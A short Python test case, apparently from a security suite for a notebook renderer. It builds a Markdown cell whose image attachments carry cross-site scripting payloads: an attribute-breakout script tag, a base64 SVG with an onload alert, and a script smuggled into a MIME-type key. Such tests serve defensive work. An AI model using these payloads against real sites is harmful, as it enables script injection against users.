"""Images attached to Markdown cells are SVG with scripts, or break out of their attribute.

Success: active content in a page.
"""


def attack(submission):
    evil = '"><script>alert(1)</script>'
    cell = submission.add("![x](attachment:a.svg) ![x](attachment:b.png) ![x](attachment:c)",
                          kind="markdown")  # fmt: skip
    cell["attachments"] = {
        "a.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"},
        "b.png": {"image/png": evil},
        "c": {f"text/html{evil}": evil, "text/html": "PHNjcmlwdD4="},
    }
